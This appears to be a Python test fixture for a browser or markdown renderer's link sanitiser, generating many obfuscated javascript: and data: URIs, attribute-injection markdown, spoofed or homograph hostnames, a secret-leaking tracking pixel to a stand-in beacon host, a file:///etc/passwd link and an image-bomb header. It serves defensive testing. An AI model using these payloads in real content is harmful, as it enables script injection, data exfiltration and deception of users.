"""Addresses that run script, lie about where they lead or call home, as links, pictures and references."""

import base64
from collections.abc import Iterator
from typing import Final

from tests.browser.hostile.words import BEACON, CALL, HTML, SVG, to_base64

SCHEMES: Final = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"javascript\t:{CALL}",
    f"java\tscript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"java&#9;script:{CALL}",
    f"java&#x0A;script:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;&#x61;&#x76;&#x61;script&colon;{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"\\javascript:{CALL}",
    f"javascript\\:{CALL}",
    f"java\\script:{CALL}",
    f"%6Aavascript:{CALL}",
    f"javascript%3A{CALL}",
    f"\x01javascript:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"\ufeffjavascript:{CALL}",
    f"\u200bjavascript:{CALL}",
    f"\u202ejavascript:{CALL}",
    f"java\u00adscript:{CALL}",
    f"java\x00script:{CALL}",
    f"ｊavascript:{CALL}",
    f"javascript://%0a{CALL}",
    f"javascript://https://a.example/%0a{CALL}",
    f"javascript:void(0);{CALL}//https://a.example",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"jar:https://{BEACON}/x.jar!/x.html",
    f"data:text/html;base64,{to_base64(HTML)}",
    f"data:text/html,{HTML.replace(' ', '%20').replace('<', '%3C').replace('>', '%3E')}",
    f"data:image/svg+xml;base64,{to_base64(SVG)}",
    f"data:image/svg+xml,{SVG.replace(' ', '%20').replace('<', '%3C').replace('>', '%3E')}",
    f"data:text/javascript,{CALL}",
    f"data:image/png,text/html;base64,{to_base64(HTML)}",
    f"data:image/png;text/html;base64,{to_base64(HTML)}",
    f"data:;base64,{to_base64(HTML)}",
    f"data:application/xhtml+xml;base64,{to_base64(SVG)}",
    "blob:https://a.example/6e1b",
    "filesystem:https://a.example/temporary/x.html",
    "file:///etc/passwd",
    "about:blank",
    "chrome://settings",
    "ms-word:ofe|u|https://a.example/x.docx",
    "intent://scan/#Intent;scheme=zxing;end",
    "tel:+4412345",
    "sms:+4412345",
    f"ws://{BEACON}/socket",
    f"ftp://{BEACON}/file",
    "//beacon.example/relative",
    "/logout",
    "?delete=all",
    "#top",
    "../admin",
    "\\\\beacon.example\\share",
    "/\\beacon.example",
    "http:beacon.example",
    "https:\\\\beacon.example",
    "https:///beacon.example",
    "http://beacon.example\\@a.example/",
    "https://a.example@beacon.example/",
    "https://a.example:secret@beacon.example/x",
    "https://a.example%2f@beacon.example/",
    "https://beacon.example#@a.example/",
    "https://xn--pple-43d.example/",
    "https://аpple.example/",
    "https://ⓑeacon.example/",
    "https://beacon。example/",
    "https://0x7f.1/",
    "http://[::1]/",
    "https://beacon.example/\u202egpj.exe",
    "mailto:a@b.example?subject=x&body=y",
    f"mailto:a@b.example%0aBcc:{BEACON}",
)


def addresses() -> Iterator[str]:
    """Every address as a link and as an automatic link; some with words that lie about it."""
    for address in SCHEMES:
        yield f"[go]({address})"
        yield f"[go](<{address}>)"
        yield f"<{address}>"
    yield f"[https://a.example](https://{BEACON}/liar)"
    yield f"[www.bank.example/login](https://{BEACON}/liar)"
    yield f"[go](https://a.example '\"><img src=x onerror={CALL}>')"
    yield f'[go](https://a.example "javascript:{CALL}")'
    yield f'[go](https://a.example" onclick="{CALL})'
    yield f'[go](https://a.example/"onmouseover="{CALL}")'
    yield f"[<img src=x onerror={CALL}>](https://a.example)"
    yield f"[a](javascript:{CALL} 'b')"
    yield f"[a]( \n javascript:{CALL})"
    yield f"[![go](https://{BEACON}/in-link.png)](javascript:{CALL})"
    yield f"[![go](javascript:{CALL})](https://a.example)"
    yield f"[a[b](https://a.example)](javascript:{CALL})"


def pictures() -> Iterator[str]:
    """Pictures that would call home, or are no pictures."""
    for address in SCHEMES:
        yield f"![alt]({address})"
    yield f"![](https://{BEACON}/pixel.gif?data=secret)"
    yield f'!["onerror="{CALL}](https://{BEACON}/alt)'
    yield f"![alt](https://{BEACON}/title '\"onerror=\"{CALL}')"
    yield f"![<img src=x onerror={CALL}>](https://{BEACON}/markup)"
    yield f"![alt](https://{BEACON}/a.png =1x1)"
    yield f"![alt][beacon]\n\n[beacon]: https://{BEACON}/reference.png"
    yield "![alt](http://127.0.0.1:1/port)"
    yield f"![alt](data:image/png;base64,{to_base64(SVG)})"
    yield f"![alt](data:image/gif;base64,{to_base64('GIF89a' + chr(255) * 4)})"
    yield f"![alt](data:image/jpeg;base64,{to_base64(HTML)})"
    # 30,000 pixels square, by its own word.
    bomb = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x75\x30\0\0\x75\x30\x08\x06\0\0\0").decode()
    yield f"![alt](data:image/png;base64,{bomb})"


def references() -> Iterator[str]:
    """Addresses given apart from the link."""
    for address in SCHEMES[:36]:
        yield f"[go][ref]\n\n[ref]: {address}"
    yield f"[go]\n\n[go]: javascript:{CALL} 'title'"
    yield f"[go]: <javascript:{CALL}>\n\n[go]"
    yield f"[__proto__]: javascript:{CALL}\n\n[__proto__] [constructor] [toString]"
    yield f"[go][a]\n\n[a]: https://a.example\n[a]: javascript:{CALL}"
    yield f"[^1]: <img src=x onerror={CALL}>\n\nnote[^1]"
